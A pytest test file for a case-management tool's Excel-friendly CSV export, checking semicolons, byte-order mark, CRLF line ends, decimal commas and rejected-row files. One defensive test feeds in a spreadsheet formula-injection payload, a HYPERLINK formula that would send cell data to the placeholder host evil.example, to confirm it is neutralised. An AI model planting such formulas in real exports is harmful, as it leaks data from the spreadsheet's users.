"""CSV for Danish Excel: `--format excel` (docs/cli.md "Formats") and the dialect of `.rejected.csv`
(docs/import-export.md "All or nothing").

`-f csv` is for scripts and keeps its bytes: commas, UTF-8 without a byte-order mark, "\n". `-f excel` is for a
person who opens the file in Excel with Danish settings: semicolons (Danish Excel's list separator), a UTF-8
byte-order mark (without it Excel reads the bytes as Windows-1252, "ø" as "Ã¸"), CRLF line ends, and a decimal
comma. The tests read the bytes, which the CliRunner harness's text would not show (it turns CRLF into "\n").
Today is fixed at 2026-11-22; the world is test_cli_formats's (hand-computed there)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import Samfam, built_once, copy_of, opener
from support import DOMAIN_ERROR, assert_error, assert_ok
from test_cli_formats import COMMANDS, _build_world

BOM = b"\xef\xbb\xbf"


@pytest.fixture(scope="module")
def _world_db(tmp_path_factory, migrated_db):
    return built_once(tmp_path_factory, migrated_db, lambda s: _build_world(s, opener(s)))


@pytest.fixture
def world(_world_db, tmp_path):
    return copy_of(_world_db, tmp_path)


def raw(s: Samfam, *argv: str) -> bytes:
    """What a command wrote to stdout, byte for byte (exit 0)."""
    from samfam.cli.app import app

    base = ["--db", str(s.db), *(["--user", s.user] if s.user else []), "--today", s.today.isoformat()]
    result = s.runner.invoke(app, [*base, *argv], env={}, catch_exceptions=False)
    assert result.exit_code == 0, f"exit {result.exit_code}: {result.stderr}"
    return result.stdout_bytes


def excel_rows(data: bytes) -> list[list[str]]:
    """An excel-dialect file as Excel reads it: a byte-order mark, then `;`-separated rows ending in CRLF."""
    assert data.startswith(BOM), data[:20]
    text = data.decode("utf-8-sig")
    assert "\n" not in text.replace("\r\n", ""), "every line ends in CRLF (a line break inside a cell aside)"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def sniffed(data: bytes) -> csv.Dialect:
    """What Python's csv.Sniffer makes of a file: its delimiter, and a header it detects."""
    text = data.decode("utf-8-sig")
    sample = text[:4096]
    assert csv.Sniffer().has_header(sample), sample
    return csv.Sniffer().sniff(sample, delimiters=",;")


# -- csv keeps its bytes ------------------------------------------------------------------------------------

OVERDUE_CSV = (
    b"case,advisor,buddy,track,paragraphs,last_followup,next_due,days_overdue,level,status,reason,needs_new_advisor\n"
    b'2026-0002,MKJ,LBH,3m,BL 30; BL 86,2026-07-01,2026-10-01,52,overdue,overdue,"compensation with support add-ons: '
    b'BL 86, BL 30",no\n'
    b"2026-0003,\xc3\x98\xc3\x85B,,6w,SEL 41; SEL 50,2026-09-01,2026-10-13,40,overdue,overdue,an investigation or "
    b"measure is granted: SEL 50,no\n"
    b"2026-0001,LBH,,6w,BL 20,2026-10-01,2026-11-12,10,overdue,overdue,an investigation or measure is granted: BL 20,"
    b"no\n"
    b'2026-0004,MKJ,,unclassified,SEL 11,,,,,needs classification,"only support add-ons, no compensation grant: '
    b'SEL 11",no\n'
)


def test_csv_bytes_are_unchanged_commas_no_bom_and_newlines(world):
    """Scripts read `-f csv`: it stays what it was before `-f excel` came (pinned byte for byte)."""
    data = raw(world, "overdue", "-f", "csv")
    assert data == OVERDUE_CSV
    assert not data.startswith(BOM) and b"\r" not in data and b";" not in data.split(b"\n")[0]


# -- excel on every listing and card ------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(COMMANDS))
def test_excel_is_the_csv_in_semicolons_with_a_bom_and_crlf(world, name):
    """The same cells as `-f csv` (the world has no decimal numbers), in the dialect Danish Excel opens in
    columns, with "ø" intact once read as UTF-8 with its byte-order mark."""
    argv, _, _, non_ascii, _ = COMMANDS[name]
    data = raw(world, *argv, "-f", "excel")
    script = list(csv.reader(io.StringIO(raw(world, *argv, "-f", "csv").decode("utf-8"), newline="")))
    assert excel_rows(data) == script
    assert data.endswith(b"\r\n")
    if non_ascii is not None:
        assert non_ascii in data.decode("utf-8-sig")


def test_excel_overdue_sniffs_as_semicolons_with_a_header_and_keeps_the_o_slash(world, tmp_path):
    """`samfam overdue -f excel > forfaldne.csv`: a file Excel opens in columns."""
    path = tmp_path / "forfaldne.csv"
    path.write_bytes(raw(world, "overdue", "-f", "excel"))
    data = path.read_bytes()
    assert data[:3] == BOM
    assert sniffed(data).delimiter == ";"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    assert [r["advisor"] for r in rows] == ["MKJ", "ØÅB", "LBH", "MKJ"]
    assert list(rows[0])[0] == "case", "the byte-order mark is not part of the first header"


def test_excel_takes_fields_like_csv(world):
    data = raw(world, "overdue", "-f", "excel", "--fields", "case,advisor")
    assert excel_rows(data)[:2] == [["case", "advisor"], ["2026-0002", "MKJ"]]


def test_fields_with_the_table_names_excel_among_the_formats_that_take_them(world):
    line = assert_error(world("overdue", "--fields", "case"), 2, "--fields", "-f excel")
    assert "-f csv" in line


def test_the_help_of_every_format_option_lists_excel(world):
    for argv in (("overdue",), ("case", "list"), ("barometer",), ("export",), ("import", "template")):
        result = world(*argv, "--help")
        assert_ok(result)
        assert "excel" in result.stdout, argv


def test_the_format_option_takes_the_one_list_of_formats():
    """The listings' --format is the one list in samfam.output.formats: a new format reaches every listing."""
    from samfam.cli.options import Format
    from samfam.output.formats import FORMATS, SCRIPT_FORMATS

    assert [f.value for f in Format] == list(FORMATS)
    assert "excel" in SCRIPT_FORMATS


def test_excel_neutralises_a_formula_as_csv_does(team, open_case):
    name = '=HYPERLINK("http://evil.example"&A1,"Emil")'
    team.ok("case", "open", "2026-0900", "--child", name, "--advisor", "MKJ", "--opened", "2026-06-01")
    rows = excel_rows(raw(team, "case", "list", "-f", "excel"))
    assert rows[1][rows[0].index("child")] == "'" + name
    assert rows == list(csv.reader(io.StringIO(raw(team, "case", "list", "-f", "csv").decode(), newline="")))


def test_excel_writes_a_decimal_comma_where_csv_writes_a_point():
    """Danish Excel reads "1.5" as the 1st of May; in excel a decimal number has a comma, in csv a point."""
    from samfam.output import formats

    rows = [{"advisor": "ØÅB", "load": 1.5, "cases": 12, "note": "1.5 timer"}]
    script, person = io.StringIO(), io.StringIO()
    formats.write_csv(rows, ["advisor", "load", "cases", "note"], script)
    formats.write_csv(rows, ["advisor", "load", "cases", "note"], person, formats.EXCEL)
    assert script.getvalue() == "advisor,load,cases,note\nØÅB,1.5,12,1.5 timer\n"
    assert person.getvalue() == "\ufeffadvisor;load;cases;note\r\nØÅB;1,5;12;1.5 timer\r\n"


# -- the other commands that take csv ------------------------------------------------------------------------


def danish(rows: list[list[str]]) -> list[list[str]]:
    """CSV's cells as excel writes them: a decimal number with a comma."""
    return [[re.sub(r"^(-?\d+)\.(\d+)$", r"\1,\2", c) for c in row] for row in rows]


def test_barometer_access_retention_and_enrolment_take_excel(world):
    """The barometer's rates are decimal numbers: 100.0 in csv, 100,0 in excel."""
    world.ok("programme", "add", "Pilot", "--target", "30", "--ends", "2027-12-31")
    world.ok("programme", "enrol", "2026-0002", "Pilot", "--on", "2026-11-01")
    for argv in (
        ("barometer", "--from", "2026-01-01", "--to", "2026-10-31"),
        ("retention",),
        ("enrolment",),
    ):
        data = raw(world, *argv, "-f", "excel")
        script = raw(world, *argv, "-f", "csv")
        assert excel_rows(data) == danish(list(csv.reader(io.StringIO(script.decode(), newline="")))), argv
    script = list(csv.reader(io.StringIO(raw(world, "access", "2026-0002", "-f", "csv").decode(), newline="")))
    access = excel_rows(raw(world, "access", "2026-0002", "-f", "excel"))  # the csv's look-up logged too
    assert access[0] == script[0] and access[:-1] == script
    barometer = excel_rows(raw(world, "barometer", "--from", "2026-01-01", "--to", "2026-10-31", "-f", "excel"))
    assert "100,0" in barometer[1]


def test_an_import_template_in_excel(samfam):
    data = raw(samfam, "import", "template", "cases", "-f", "excel")
    rows = excel_rows(data)
    assert rows == list(csv.reader(io.StringIO(raw(samfam, "import", "template", "cases").decode(), newline="")))
    assert sniffed(data).delimiter == ";"


def test_export_excel_is_a_folder_of_excel_files_the_import_reads_back(world, tmp_path, migrated_db):
    folder = tmp_path / "udtræk"
    result = world("export", "--format", "excel", "--output", str(folder))
    assert_ok(result)
    script = tmp_path / "script"
    assert_ok(world("export", "--format", "csv", "--output", str(script)))
    files = sorted(p.name for p in folder.iterdir())
    assert files == sorted(p.name for p in script.iterdir()) and "cases.csv" in files
    for name in files:
        data = (folder / name).read_bytes()
        assert excel_rows(data) == list(csv.reader(io.StringIO((script / name).read_text(), newline=""))), name
    cases = (folder / "cases.csv").read_bytes()
    assert sniffed(cases).delimiter == ";" and "Åse Ørum" in cases.decode("utf-8-sig")
    fresh = tmp_path / "fresh.db"
    shutil.copy2(migrated_db, fresh)
    other = Samfam(fresh)
    for kind in ("advisors", "cases", "applications", "grants", "actors", "goals", "events"):
        other.ok("import", kind, str(folder / f"{kind}.csv"))
    assert other.ok("overdue", "-f", "csv").stdout == world.ok("overdue", "-f", "csv").stdout


def test_export_excel_without_a_folder_is_refused(world):
    assert_error(world("export", "-f", "excel"), 2, "--output FOLDER")


# -- LibreOffice, as Danish Excel would open the file -------------------------------------------------------


def _office() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(_office() is None, reason="LibreOffice (soffice or libreoffice) is not on PATH")
def test_libreoffice_with_danish_settings_opens_excel_output_in_columns(world, tmp_path):
    """LibreOffice's CSV filter with Danish settings (language 1030), semicolons and UTF-8 (76), as Danish
    Excel opens the file; then the converted workbook read back with openpyxl."""
    from openpyxl import load_workbook

    source = tmp_path / "forfaldne.csv"
    source.write_bytes(raw(world, "overdue", "-f", "excel"))
    office = _office()
    assert office is not None
    subprocess.run(
        [office, "--headless", "--infilter=CSV:59,34,76,1,,1030", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         str(source)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    book = load_workbook(tmp_path / "forfaldne.xlsx", read_only=True)
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    assert rows[0][:3] == ["case", "advisor", "buddy"]
    assert rows[2][1] == "ØÅB"


# -- the rejected file in the dialect of the file it came from ----------------------------------------------

#: Line 3 is refused: its caseload target is not a number.
ADVISORS = "initials;name;team;caseload_target\r\nMKJ;Mette Kjær Jensen;Nord;24\r\nSØØ;Søren Ø;Nord;mange\r\n"


def _rejected(samfam: Samfam, path: Path) -> bytes:
    assert_error(samfam("import", "advisors", str(path)), DOMAIN_ERROR, "line 3")
    return Path(f"{path}.rejected.csv").read_bytes()


def test_a_semicolon_file_with_a_bom_gets_its_rejected_rows_in_the_same_dialect(samfam, tmp_path):
    path = tmp_path / "rådgivere.csv"
    path.write_bytes(BOM + ADVISORS.encode())
    data = _rejected(samfam, path)
    rows = excel_rows(data)
    assert rows[0] == ["line", "reason", "initials", "name", "team", "caseload_target"]
    assert rows[1][0] == "3" and rows[1][2:] == ["SØØ", "Søren Ø", "Nord", "mange"]
    assert sniffed(data).delimiter == ";"
    with open(f"{path}.rejected.csv", encoding="utf-8-sig", newline="") as handle:
        assert "Søren Ø" in handle.read()


def test_a_comma_file_gets_its_rejected_rows_as_before(samfam, tmp_path):
    path = tmp_path / "advisors.csv"
    path.write_bytes(ADVISORS.replace(";", ",").replace("\r\n", "\n").encode())
    data = _rejected(samfam, path)
    assert data.startswith(b"line,reason,initials,name,team,caseload_target\n3,") and b"\r" not in data
    assert sniffed(data).delimiter == ","


def test_a_windows_1252_file_gets_its_rejected_rows_with_a_bom_so_excel_reads_the_o_slash(samfam, tmp_path):
    """Danish Excel's "CSV (semikolonsepareret)" is Windows-1252: the rejected rows are UTF-8 with a byte-order
    mark, which Excel reads as such ("Søren" intact), and so does the next import."""
    path = tmp_path / "advisors.csv"
    path.write_bytes(ADVISORS.encode("cp1252"))
    rows = excel_rows(_rejected(samfam, path))
    assert rows[1][2:] == ["SØØ", "Søren Ø", "Nord", "mange"]


def test_a_workbook_gets_its_rejected_rows_in_the_excel_dialect(samfam, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "advisors"
    for row in (
        ("initials", "name", "team", "caseload_target"),
        ("MKJ", "Mette Kjær Jensen", "Nord", 24),
        ("SØØ", "Søren Ø", "Nord", "mange"),
    ):
        sheet.append(row)
    path = tmp_path / "rådgivere.xlsx"
    book.save(path)
    data = _rejected(samfam, path)
    assert excel_rows(data)[1][2:] == ["SØØ", "Søren Ø", "Nord", "mange"]
    assert sniffed(data).delimiter == ";"


def test_an_earlier_rejected_file_in_the_excel_dialect_is_replaced_without_force(samfam, tmp_path):
    path = tmp_path / "rådgivere.csv"
    path.write_bytes(BOM + ADVISORS.encode())
    first = _rejected(samfam, path)
    second = _rejected(samfam, path)  # the earlier run's refused rows: replaced, not refused
    assert first == second
